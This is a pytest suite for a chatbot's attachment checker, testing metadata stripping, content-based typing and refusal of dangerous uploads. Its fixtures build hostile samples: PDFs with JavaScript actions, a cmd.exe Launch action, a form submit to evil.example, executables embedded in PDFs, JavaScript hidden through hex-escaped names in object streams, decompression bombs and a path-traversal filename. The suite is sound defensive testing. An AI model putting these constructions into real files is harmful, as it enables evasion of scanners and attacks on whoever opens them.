"""Uploaded files are judged by their bytes; images come back as bare pixels."""

from __future__ import annotations

import base64
import hashlib
import io
import struct
import time
import zlib

import pytest
from PIL import Image, ImageFile, PngImagePlugin
from pypdf import PdfWriter

from bot.intake import pdf_content
from bot.intake.attachments import (
    MAX_ATTACHMENT_BYTES,
    MAX_ATTACHMENTS_PER_REPORT,
    MAX_IMAGE_PIXELS,
    REASONS,
    AttachmentRejected,
    CheckedFile,
    check_attachment,
    decode_base64_attachment,
)
from tests.yaml_files import domain_yaml

GPS_IFD = 0x8825
ORIENTATION = 0x0112


def minimal_pdf() -> bytes:
    """A valid one-page PDF, with a cross-reference table at the right byte offsets."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f\r\n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n\r\n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


MINIMAL_PDF = minimal_pdf()


def picture(mode: str = "RGB", size: tuple[int, int] = (40, 20)) -> Image.Image:
    """A small image with distinct pixels, so re-encoding can be compared."""
    image = Image.new(mode, size)
    for x in range(size[0]):
        for y in range(size[1]):
            value = (x * 6 % 256, y * 12 % 256, (x + y) * 3 % 256, 255)
            image.putpixel((x, y), value[: len(mode)] if mode != "L" else value[0])
    return image


def encode(image: Image.Image, fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **options)
    return out.getvalue()


def gps_exif(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    exif[0x010F] = "PhoneMaker"  # Make
    exif.get_ifd(GPS_IFD).update({1: "N", 2: (24.0, 42.0, 50.0), 3: "E", 4: (46.0, 43.0, 5.0)})
    return exif


def reopen(checked: CheckedFile) -> Image.Image:
    image = Image.open(io.BytesIO(checked.data))
    image.load()
    return image


def reason(data: bytes, filename: str = "file") -> str:
    with pytest.raises(AttachmentRejected) as caught:
        check_attachment(data, filename)
    assert caught.value.reason in REASONS
    return caught.value.reason


def png_header_only(width: int, height: int) -> bytes:
    """A PNG that announces `width` x `height` without carrying the pixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0"))


def test_limits_are_the_documented_ones() -> None:
    assert MAX_ATTACHMENT_BYTES == 10 * 1024 * 1024
    assert MAX_ATTACHMENTS_PER_REPORT == 5
    with pytest.raises(ValueError):
        AttachmentRejected("no_such_reason")


def test_png_is_accepted_and_keeps_its_pixels() -> None:
    image = picture("RGBA")
    checked = check_attachment(encode(image, "PNG"), "لقطة شاشة.png")
    assert checked.content_type == "image/png"
    assert checked.filename == "لقطة شاشة.png"
    assert checked.size == len(checked.data)
    assert checked.sha256 == hashlib.sha256(checked.data).hexdigest()
    stored = reopen(checked)
    assert stored.format == "PNG"
    assert stored.tobytes() == image.tobytes()


def test_png_text_icc_and_exif_are_removed() -> None:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "taken at home")
    info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>secret</x:xmpmeta>")
    data = encode(picture(), "PNG", pnginfo=info, exif=gps_exif(), icc_profile=b"fake icc profile")
    assert b"taken at home" in data and b"PhoneMaker" in data
    checked = check_attachment(data, "a.png")
    stored = reopen(checked)
    assert not stored.getexif()
    assert not set(stored.info) & {"Comment", "XML:com.adobe.xmp", "icc_profile", "exif"}
    assert b"taken at home" not in checked.data and b"PhoneMaker" not in checked.data


def test_palette_png_keeps_its_transparency() -> None:
    image = picture().convert("P")
    checked = check_attachment(encode(image, "PNG", transparency=0), "p.png")
    assert reopen(checked).info.get("transparency") == 0


def test_jpeg_with_gps_is_stored_without_exif_and_upright() -> None:
    data = encode(picture(), "JPEG", exif=gps_exif(orientation=6), comment=b"my flat")
    assert Image.open(io.BytesIO(data)).getexif().get_ifd(GPS_IFD)
    assert b"PhoneMaker" in data and b"my flat" in data
    checked = check_attachment(data, "IMG_0001.JPG")
    assert checked.content_type == "image/jpeg"
    assert checked.filename == "IMG_0001.JPG"
    stored = reopen(checked)
    assert stored.format == "JPEG"
    assert stored.size == (20, 40)  # orientation 6 applied to the 40 x 20 pixels
    assert not stored.getexif()
    assert "exif" not in stored.info and "comment" not in stored.info
    assert b"Exif" not in checked.data and b"PhoneMaker" not in checked.data
    assert b"my flat" not in checked.data


@pytest.mark.parametrize("options", [{"quality": 80}, {"lossless": True}])
def test_webp_is_accepted_and_cleaned(options: dict[str, object]) -> None:
    image = picture("RGBA")
    data = encode(image, "WEBP", exif=gps_exif(), xmp=b"<x:xmpmeta>secret</x:xmpmeta>", **options)
    assert b"secret" in data and b"PhoneMaker" in data
    checked = check_attachment(data, "shot.webp")
    assert checked.content_type == "image/webp"
    stored = reopen(checked)
    assert stored.format == "WEBP"
    assert stored.size == image.size
    assert not stored.getexif()
    assert b"secret" not in checked.data and b"PhoneMaker" not in checked.data
    if options.get("lossless"):
        assert stored.convert("RGBA").tobytes() == image.tobytes()


def test_the_content_decides_type_and_extension_not_the_name() -> None:
    jpeg = encode(picture(), "JPEG")
    checked = check_attachment(jpeg, "fault.png")
    assert (checked.content_type, checked.filename) == ("image/jpeg", "fault.jpg")
    assert check_attachment(jpeg, "screenshot").filename == "screenshot.jpg"
    assert check_attachment(jpeg, "photo.jpeg").filename == "photo.jpeg"
    assert check_attachment(jpeg, "report v1.2").filename == "report v1.2.jpg"
    assert check_attachment(jpeg, "../../etc/x.exe").filename == "x.exe.jpg"
    assert check_attachment(jpeg, "").filename == "attachment.jpg"
    assert len(check_attachment(jpeg, "x" * 300 + ".png").filename) == 255


def test_minimal_pdf_is_stored_as_sent() -> None:
    checked = check_attachment(MINIMAL_PDF, "receipt")
    assert checked.data == MINIMAL_PDF
    assert checked.content_type == "application/pdf"
    assert checked.filename == "receipt.pdf"
    assert checked.sha256 == hashlib.sha256(MINIMAL_PDF).hexdigest()


@pytest.mark.parametrize(
    "data",
    [
        MINIMAL_PDF[: len(MINIMAL_PDF) // 2],
        MINIMAL_PDF.replace(b"%%EOF", b"") + b"\n",
        MINIMAL_PDF + b"x" * 4096,
    ],
    ids=["truncated", "no-eof", "eof-far-from-end"],
)
def test_pdf_without_its_trailer_is_refused(data: bytes) -> None:
    assert reason(data, "doc.pdf") == "corrupt_pdf"


@pytest.mark.parametrize(
    "data",
    [
        b"just some text, not a picture\n",
        b"<!DOCTYPE html><html><script>alert(1)</script></html>",
        b"PK\x03\x04" + b"\0" * 100,
        b"MZ\x90\x00" + b"\0" * 100,
        b"GIF89a" + b"\0" * 100,
        b"%!PS-Adobe-3.0",
    ],
    ids=["text", "html", "zip", "exe", "gif", "postscript"],
)
def test_other_content_named_png_is_unsupported(data: bytes) -> None:
    assert reason(data, "x.png") == "unsupported_type"


def test_damaged_images_are_refused() -> None:
    png = encode(picture(), "PNG")
    jpeg = encode(picture(), "JPEG")
    assert reason(png[: len(png) // 2], "cut.png") == "corrupt_image"
    assert reason(jpeg[: len(jpeg) // 2], "cut.jpg") == "corrupt_image"
    assert reason(b"\x89PNG\r\n\x1a\n" + b"garbage" * 10) == "corrupt_image"
    assert reason(b"\xff\xd8\xff" + b"garbage" * 10) == "corrupt_image"
    assert reason(b"RIFF\x10\x00\x00\x00WEBPVP8 garbage") == "corrupt_image"
    flipped = bytearray(png)
    flipped[-20] ^= 0xFF  # inside the image data: its CRC no longer matches
    assert reason(bytes(flipped)) == "corrupt_image"


@pytest.mark.parametrize(
    "size",
    [(5000, 4001), (8000, 8000), (20000, 10000)],
    ids=["just-over", "ours", "pillow-bomb"],
)
def test_decompression_bombs_are_refused(size: tuple[int, int]) -> None:
    assert reason(png_header_only(*size), "bomb.png") == "image_too_large_in_pixels"


def test_empty_and_over_size_files_are_refused() -> None:
    assert reason(b"") == "empty_file"
    too_big = encode(picture(), "PNG")
    too_big += b"\0" * (MAX_ATTACHMENT_BYTES + 1 - len(too_big))
    assert reason(too_big, "big.png") == "file_too_large"


def test_decode_base64_attachment() -> None:
    data = bytes(range(256)) * 3
    text = base64.b64encode(data).decode()
    assert decode_base64_attachment({"filename": "a.png", "data": text}) == data
    assert decode_base64_attachment({"data": "data:image/png;base64," + text}) == data
    wrapped = "\n".join(text[i : i + 76] for i in range(0, len(text), 76))
    assert decode_base64_attachment({"data": wrapped}) == data


@pytest.mark.parametrize(
    "item",
    [
        {"data": "not base64!"},
        {"data": "QUJD*"},
        {"data": "QUJDRA"},  # missing padding
        {"data": 12345},
        {"filename": "a.png"},
        "QUJD",
        None,
    ],
)
def test_bad_base64_is_refused(item: object) -> None:
    with pytest.raises(AttachmentRejected) as caught:
        decode_base64_attachment(item)  # type: ignore[arg-type]
    assert caught.value.reason == "bad_base64"


def test_over_size_base64_is_refused_before_decoding() -> None:
    text = "A" * (4 * (MAX_ATTACHMENT_BYTES // 3 + 2))
    with pytest.raises(AttachmentRejected) as caught:
        decode_base64_attachment({"data": text})
    assert caught.value.reason == "file_too_large"
    exact = base64.b64encode(b"\0" * MAX_ATTACHMENT_BYTES).decode()
    assert len(decode_base64_attachment({"data": exact})) == MAX_ATTACHMENT_BYTES


# --- pixel bombs: refused from the header, before any decoding -----------------------------


def bilevel_png(width: int, height: int) -> bytes:
    """A real 1-bit PNG with some stripes: a 7000 x 7000 one is about 20 KB."""
    image = Image.new("1", (width, height))
    for x in range(0, width, 97):
        image.paste(1, (x, 0, x + 3, height))
    return encode(image, "PNG")


@pytest.fixture(scope="module")
def png_7000() -> bytes:
    return bilevel_png(7000, 7000)


@pytest.fixture
def decoded(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Records every call of Pillow's Image.open and ImageFile.load (and still runs them)."""
    calls: list[str] = []
    real_open, real_load = Image.open, ImageFile.ImageFile.load

    def spy_open(*args: object, **kwargs: object) -> Image.Image:
        calls.append("open")
        return real_open(*args, **kwargs)  # type: ignore[arg-type]

    def spy_load(self: ImageFile.ImageFile) -> object:
        calls.append("load")
        return real_load(self)

    monkeypatch.setattr(Image, "open", spy_open)
    monkeypatch.setattr(ImageFile.ImageFile, "load", spy_load)
    return calls


def test_pixel_limit_is_20_megapixels_here_and_in_pillow() -> None:
    assert MAX_IMAGE_PIXELS == 20_000_000
    assert Image.MAX_IMAGE_PIXELS is not None and Image.MAX_IMAGE_PIXELS <= MAX_IMAGE_PIXELS


def test_a_real_7000_by_7000_png_is_refused_in_milliseconds_without_decoding(
    png_7000: bytes, decoded: list[str]
) -> None:
    assert len(png_7000) < 200_000
    assert struct.unpack(">II", png_7000[16:24]) == (7000, 7000)  # IHDR
    started = time.process_time()
    assert reason(png_7000, "bomb.png") == "image_too_large_in_pixels"
    assert time.process_time() - started < 0.05
    assert decoded == []


def set_jpeg_size(data: bytes, marker: bytes, width: int, height: int) -> bytes:
    at = data.index(marker)  # marker, length (2), precision (1), height (2), width (2)
    return data[: at + 5] + struct.pack(">HH", height, width) + data[at + 9 :]


def set_webp_size(data: bytes, width: int, height: int) -> bytes:
    body = bytearray(data)
    kind = bytes(body[12:16])
    if kind == b"VP8 ":
        body[26:30] = struct.pack("<HH", width & 0x3FFF, height & 0x3FFF)
    elif kind == b"VP8L":
        bits = int.from_bytes(body[21:25], "little") & ~((1 << 28) - 1)
        body[21:25] = (bits | (width - 1) | ((height - 1) << 14)).to_bytes(4, "little")
    else:
        assert kind == b"VP8X"
        body[24:30] = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return bytes(body)


HUGE_HEADERS = {
    "jpeg": lambda: set_jpeg_size(encode(picture(), "JPEG"), b"\xff\xc0", 60000, 60000),
    "jpeg-progressive": lambda: set_jpeg_size(
        encode(picture(), "JPEG", progressive=True), b"\xff\xc2", 30000, 700
    ),
    "jpeg-exif": lambda: set_jpeg_size(
        encode(picture(), "JPEG", exif=gps_exif(orientation=6)), b"\xff\xc0", 700, 30000
    ),
    "webp-lossy": lambda: set_webp_size(encode(picture(), "WEBP", quality=80), 16383, 16383),
    "webp-lossless": lambda: set_webp_size(encode(picture(), "WEBP", lossless=True), 16384, 2000),
    "webp-extended": lambda: set_webp_size(
        encode(picture("RGBA"), "WEBP", exif=gps_exif()), 100_000, 1000
    ),
}


@pytest.mark.parametrize("make", HUGE_HEADERS.values(), ids=HUGE_HEADERS.keys())
def test_jpeg_and_webp_claiming_huge_sizes_are_refused_without_decoding(
    make: object, decoded: list[str]
) -> None:
    data = make()  # type: ignore[operator]
    decoded.clear()
    started = time.process_time()
    assert reason(data, "bomb") == "image_too_large_in_pixels"
    assert time.process_time() - started < 0.05
    assert decoded == []


def test_exactly_20_megapixels_still_passes() -> None:
    checked = check_attachment(bilevel_png(5000, 4000), "tall.png")
    assert reopen(checked).size == (5000, 4000)


def test_an_ordinary_screenshot_still_passes(decoded: list[str]) -> None:
    screenshot = Image.new("RGB", (1920, 1080), "white")
    for y in range(0, 1080, 40):
        screenshot.paste((30, 90, 200), (0, y, 1920, y + 12))
    data = encode(screenshot, "PNG")
    checked = check_attachment(data, "Screenshot 2026-11-23.png")
    assert checked.content_type == "image/png"
    assert reopen(checked).tobytes() == screenshot.tobytes()
    assert "load" in decoded  # decoded after the header check, as before


@pytest.mark.parametrize(
    "data",
    [
        encode(picture(), "PNG")[:20],
        encode(picture(), "JPEG")[:12],
        encode(picture(), "WEBP", lossless=True)[:22],
        encode(picture("RGBA"), "WEBP", exif=gps_exif())[:26],
        png_header_only(0, 100),
        set_jpeg_size(encode(picture(), "JPEG"), b"\xff\xc0", 40, 0),
        b"\xff\xd8\xff\xda\x00\x08" + b"\0" * 100,
    ],
    ids=["png", "jpeg", "webp", "webp-extended", "png-zero-width", "jpeg-zero-height", "no-sof"],
)
def test_cut_or_empty_headers_are_corrupt_without_decoding(data: bytes, decoded: list[str]) -> None:
    decoded.clear()
    assert reason(data, "cut") == "corrupt_image"
    assert decoded == []


# --- PDFs: parsed, refused when they carry active content ---------------------------------


def pdf(objects: list[bytes], packed: list[bytes] | tuple[bytes, ...] = ()) -> bytes:
    """A PDF of `objects` (numbered from 1, object 1 the catalogue). With `packed` bodies
    (numbered after them) in one compressed object stream, the cross-reference is a stream
    (PDF 1.5), as most writers make them today; else a classic table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, body in enumerate(objects, start=1):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if not packed:
        size = len(objects) + 1
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f\r\n" % size
        out += b"".join(b"%010d 00000 n\r\n" % offsets[n] for n in range(1, size))
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
        return bytes(out)
    first = len(objects) + 1
    stream_number = first + len(packed)
    xref_number = stream_number + 1
    head = body = b""
    for index, item in enumerate(packed):
        head += b"%d %d " % (first + index, len(body))
        body += item + b"\n"
    content = zlib.compress(head + body)
    offsets[stream_number] = len(out)
    out += b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>" % (
        stream_number,
        len(packed),
        len(head),
        len(content),
    )
    out += b"\nstream\n" + content + b"\nendstream\nendobj\n"
    rows = [b"\x00\x00\x00\x00\x00\xff\xff"]
    for number in range(1, xref_number):
        if number in offsets:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
        else:
            index = (number - first).to_bytes(2, "big")
            rows.append(b"\x02" + stream_number.to_bytes(4, "big") + index)
    offsets[xref_number] = len(out)
    rows.append(b"\x01" + offsets[xref_number].to_bytes(4, "big") + b"\x00\x00")
    table = zlib.compress(b"".join(rows))
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R " % (
        xref_number,
        xref_number + 1,
    )
    out += b"/Filter /FlateDecode /Length %d >>\nstream\n" % len(table) + table
    out += b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def catalog(extra: bytes = b"") -> bytes:
    return b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>"


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"


def page(extra: bytes) -> bytes:
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + extra + b" >>"


def written_pdf(*, attachment: bool = False, user_password: str | None = None) -> bytes:
    """A PDF as pypdf's writer makes it (one blank page)."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    if attachment:
        writer.add_attachment("invoice.exe", b"MZ not really")
    if user_password is not None:
        writer.encrypt(user_password=user_password, owner_password="owner", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
ACTIVE_PDFS = {
    "javascript-open-action": lambda: pdf([catalog(b"/OpenAction 4 0 R"), PAGES, PAGE, JS_ACTION]),
    "javascript-page-open-aa": lambda: pdf(
        [catalog(), PAGES, page(b"/AA << /O 4 0 R >>"), JS_ACTION]
    ),
    "javascript-name-tree": lambda: pdf(
        [catalog(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>"), PAGES, PAGE, JS_ACTION]
    ),
    "launch": lambda: pdf(
        [catalog(b"/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >>"), PAGES, PAGE]
    ),
    "embedded-file": lambda: pdf(
        [
            catalog(b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>"),
            PAGES,
            PAGE,
            b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        ]
    ),
    "file-attachment-annotation": lambda: pdf(
        [
            catalog(),
            PAGES,
            page(b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>]"),
        ]
    ),
    "submit-form": lambda: pdf(
        [catalog(b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"), PAGES, PAGE]
    ),
    "import-data": lambda: pdf(
        [catalog(b"/OpenAction << /S /ImportData /F (data.fdf) >>"), PAGES, PAGE]
    ),
    "remote-goto": lambda: pdf(
        [
            catalog(b"/OpenAction << /S /GoToR /F (\\\\host\\share\\x.pdf) /D [0 /Fit] >>"),
            PAGES,
            PAGE,
        ]
    ),
    "rich-media": lambda: pdf(
        [catalog(), PAGES, page(b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]")]
    ),
    "xfa": lambda: pdf([catalog(b"/AcroForm << /Fields [] /XFA (<xdp/>) >>"), PAGES, PAGE]),
    "javascript-hidden-in-object-stream-hex-escaped": lambda: pdf(
        [catalog(b"/OpenAction 4 0 R"), PAGES, PAGE],
        packed=[b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"],
    ),
    "launch-in-object-stream": lambda: pdf(
        [catalog(), PAGES], packed=[page(b"/AA << /C << /S /L#61unch /F (x) >> >>")]
    ),
    "pypdf-attachment": lambda: written_pdf(attachment=True),
}


@pytest.mark.parametrize("make", ACTIVE_PDFS.values(), ids=ACTIVE_PDFS.keys())
def test_pdfs_with_active_content_are_refused(make: object) -> None:
    data = make()  # type: ignore[operator]
    assert reason(data, "statement.pdf") == "pdf_active_content"


def test_hidden_names_are_found_by_parsing_not_by_grepping() -> None:
    data = ACTIVE_PDFS["javascript-hidden-in-object-stream-hex-escaped"]()
    assert b"JavaScript" not in data and b"/JS" not in data and b"ObjStm" in data
    with pytest.raises(pdf_content.PdfActiveContent) as caught:
        pdf_content.check_pdf_content(data)
    assert caught.value.names == ("/JS", "/JavaScript")


SAFE_PDFS = {
    "minimal": lambda: MINIMAL_PDF,
    "object-stream": lambda: pdf([catalog(), PAGES], packed=[PAGE]),
    "open-at-page-and-web-link": lambda: pdf(
        [
            catalog(b"/OpenAction [3 0 R /Fit]"),
            PAGES,
            page(
                b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://x) >> >>]"
            ),
        ]
    ),
    "pypdf-writer": lambda: written_pdf(),
    "owner-password-only": lambda: written_pdf(user_password=""),
}


@pytest.mark.parametrize("make", SAFE_PDFS.values(), ids=SAFE_PDFS.keys())
def test_plain_pdfs_are_accepted_as_sent(make: object) -> None:
    data = make()  # type: ignore[operator]
    checked = check_attachment(data, "statement")
    assert checked.data == data and checked.content_type == "application/pdf"


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.4\n" + bytes(range(256)) * 8 + b"\n%%EOF\n",
        pdf([b"(not a catalogue)", PAGES, PAGE]),
        written_pdf(user_password="secret"),
        pdf([catalog(b"/X " + b"[" * 5000 + b"]" * 5000), PAGES, PAGE]),
    ],
    ids=["garbage", "no-catalogue", "user-password", "nested-too-deep"],
)
def test_pdfs_that_cannot_be_read_are_corrupt(data: bytes) -> None:
    assert reason(data, "x.pdf") == "corrupt_pdf"


@pytest.mark.parametrize(
    "objects",
    [
        [catalog(), PAGES, PAGE] + [b"null"] * (pdf_content.MAX_PDF_OBJECTS + 1),
        [catalog(), PAGES, PAGE] + [b"[" + b"1 2 3 4 5 6 7 8 9 10 " * 4 + b"]"] * 45_000,
        [catalog(b"/X [" + b"0 " * 200_000 + b"]"), PAGES, PAGE],
    ],
    ids=["too-many-objects", "too-much-to-parse", "huge-array"],
)
def test_pdf_bombs_are_refused_in_bounded_time(objects: list[bytes]) -> None:
    data = pdf(objects)
    assert len(data) <= MAX_ATTACHMENT_BYTES
    started = time.process_time()
    assert reason(data, "bomb.pdf") == "pdf_too_complex"
    assert time.process_time() - started < pdf_content.PDF_CHECK_SECONDS + 1.0


def test_every_reason_has_words_in_arabic_and_english() -> None:
    domain = domain_yaml()
    for code in REASONS:
        variations = domain["responses"][f"utter_attachment_rejected_{code}"]
        languages = {
            condition["value"]
            for variation in variations
            for condition in variation.get("condition", [])
            if condition.get("name") == "language"
        }
        assert languages == {"ar", "en"}, code
        assert all("{filename}" in variation["text"] for variation in variations), code
